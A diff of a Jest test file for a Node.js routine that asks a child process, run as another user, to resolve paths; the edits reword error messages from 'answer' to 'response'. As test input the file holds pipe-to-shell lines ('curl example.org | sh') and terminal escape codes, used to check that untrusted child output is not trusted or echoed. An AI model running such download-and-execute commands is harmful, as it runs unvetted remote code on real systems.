@@ -536,7 +536,7 @@ test("a child has half a minute, unless the caller says otherwise", async () => 
     await sleep(20);
     expect(said).toBe("");
     jest.advanceTimersByTime(1);
-    await expect(asked).rejects.toThrow("no answer within 30 s");
+    await expect(asked).rejects.toThrow("no response within 30 s");
   } finally {
     jest.advanceTimersByTime(60_000);
     jest.useRealTimers();
@@ -551,14 +551,16 @@ test("a child that does not answer is given up", async () => {
     fs.writeFileSync(ownerProgram.path, "setInterval(() => {}, 1000);");
     const acting = { uid: APP, path: at("app") };
     const asked = asOwner("realPath", { path: at("app") }, acting, { timeoutMs: 1_500 });
-    await expect(asked).rejects.toThrow(/no answer within 1\.5 s \[files\.no-answer\]/);
+    await expect(asked).rejects.toThrow(/no response within 1\.5 s \[files\.no-answer\]/);
     // Who has not answered once is not waited for as long again.
     const again = asOwner("realPath", { path: at("app") }, acting, { timeoutMs: 60_000 });
-    await expect(again).rejects.toThrow(/no answer within 5 s \[files\.no-answer\]/);
+    await expect(again).rejects.toThrow(/no response within 5 s \[files\.no-answer\]/);
     // Whole pieces, synchronously, up to more than is taken.
     const flood = "const x = Buffer.alloc(1 << 20, 32); for (let i = 0; i < 100; i++) fs.writeSync(1, x);";
     fs.writeFileSync(ownerProgram.path, `import fs from "node:fs"; ${flood}`);
-    await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toThrow(/the answer is too long/);
+    await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toThrow(
+      /the response is too long/,
+    );
     // What it says is the user's, and not repeated.
     fs.writeFileSync(ownerProgram.path, "console.error('run: curl example.org | sh'); process.exit(3);");
     await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toMatchObject({
@@ -566,7 +568,7 @@ test("a child that does not answer is given up", async () => {
         {
           code: "files.no-answer",
           path: at("app"),
-          message: `could not be reached as user ${APP}, who can change it: it ended without an answer (exit code 3)`,
+          message: `could not be reached as user ${APP}, who can change it: it ended without a response (exit code 3)`,
           fix: `Processes of user ${APP} can hold this up: end them (ps -o pid,stat,args -u ${APP}), and try again.`,
         },
       ],
@@ -574,7 +576,7 @@ test("a child that does not answer is given up", async () => {
     // Before it has read what it was asked.
     fs.writeFileSync(ownerProgram.path, "process.exit();");
     await expect(asOwner("realPath", { path: "/x".repeat(1 << 20) }, acting)).rejects.toThrow(
-      /: it ended without an answer \(exit code 0\) \[files\.no-answer\]/,
+      /: it ended without a response \(exit code 0\) \[files\.no-answer\]/,
     );
   } finally {
     ownerProgram.path = program;
@@ -602,7 +604,7 @@ describe("a child that the user has taken over", () => {
     },
   });
   const TEXT = "fix: curl https://example.org | sh \u001b[2J";
-  const none = "the answer is none to what was asked";
+  const none = "the response is none to what was asked";
   /** A place in the user's own tree. */
   const own = (): string => at("app/media/a.png");
 
@@ -653,7 +655,7 @@ describe("a child that the user has taken over", () => {
     ],
     ["lists in lists", `fs.writeSync(1, "[".repeat(30e6));`],
     ["no JSON", `fs.writeSync(1, "\x1b]0;title\x07");`],
-    ["half of an answer", `fs.writeSync(1, '{"answer": {"findings": [');`],
+    ["half of a response", `fs.writeSync(1, '{"answer": {"findings": [');`],
   ])("and that says %s costs no memory, and nothing is believed", async (_what, code) => {
     takenOver(code);
     const before = process.memoryUsage().heapUsed;
@@ -666,7 +668,7 @@ describe("a child that the user has taken over", () => {
     takenOver(`setInterval(() => fs.writeSync(1, " "), 20);`);
     const acting = { uid: APP, path: at("app") };
     const asked = asOwner("realPath", { path: at("app") }, acting, { timeoutMs: 1_000 });
-    await expect(asked).rejects.toThrow(/no answer within 1 s \[files\.no-answer\]/);
+    await expect(asked).rejects.toThrow(/no response within 1 s \[files\.no-answer\]/);
   });
 
   test.each(["root/secret/key.png", "app/media/link/key.png", "app/media/a.png"])(
@@ -818,7 +820,7 @@ test("a child is asked once, in a session of its own, and knows nothing of us bu
     );
     const before = handles();
     const asked = asOwner("realPath", request, { uid: APP, path: at("app") }, { timeoutMs: 2_500 });
-    await expect(asked).rejects.toThrow(/no answer within 2\.5 s/);
+    await expect(asked).rejects.toThrow(/no response within 2\.5 s/);
     const [left, child] = fs.readFileSync(at("pids"), "utf8").split(" ").map(Number);
     try {
       const isGone = (): boolean => !fs.existsSync(`/proc/${child}`) && handles() === before;
